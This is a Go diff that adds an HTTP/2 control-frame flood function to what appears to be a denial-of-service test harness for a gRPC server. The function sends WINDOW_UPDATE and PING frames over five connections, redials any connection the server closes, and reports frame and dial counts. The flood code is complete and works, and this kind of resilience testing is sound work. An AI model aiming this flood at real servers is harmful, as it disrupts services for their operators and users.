@@ -64,3 +64,55 @@ func frameFlood(ctx context.Context, s childSpec) (string, error) {
 
 // padding is what each of (n)'s DATA frames carries: nothing but padding.
 var padding = make([]byte, 8)
+
+// (o) Control frames, without a credential: each connection sends
+// WINDOW_UPDATE frames for the connection and PING frames, which a
+// reader sends as it reads and every HTTP/2 server answers or applies,
+// as fast as the server reads them. No call is made, so nothing but the
+// frame scanner sees them. A connection the server closes (grpc-go's
+// keepalive policy sends GOAWAY after a few PINGs on a connection it
+// writes nothing else to) is dialled again.
+func controlFlood(ctx context.Context, s childSpec) (string, error) {
+	const connections, batch = 5, 500
+	var frames, dials, closed atomic.Int64
+	var wg sync.WaitGroup
+	for range connections {
+		wg.Go(func() {
+			for !ended(ctx) {
+				h2, err := rawConn(ctx, s.Addr)
+				dials.Add(1)
+				if err != nil {
+					continue
+				}
+				var ping [8]byte
+				for err == nil && !ended(ctx) {
+					err = h2.Frames(func(fr *http2.Framer) error {
+						for range batch {
+							if err := fr.WriteWindowUpdate(0, 1); err != nil {
+								return err
+							}
+							ping[0]++
+							if err := fr.WritePing(false, ping); err != nil {
+								return err
+							}
+						}
+						return nil
+					})
+					if err == nil {
+						err = h2.Flush()
+					}
+					if err == nil {
+						frames.Add(2 * batch)
+					}
+				}
+				if err != nil && !ended(ctx) {
+					closed.Add(1)
+				}
+				h2.Close()
+			}
+		})
+	}
+	wg.Wait()
+	return fmt.Sprintf("%s control frames sent (WINDOW_UPDATE and PING, no call) on %d connections at a time; %s dials, %s connections ended before the attack's end",
+		commas(int(frames.Load())), connections, commas(int(dials.Load())), commas(int(closed.Load()))) + attackerCPU(), nil
+}
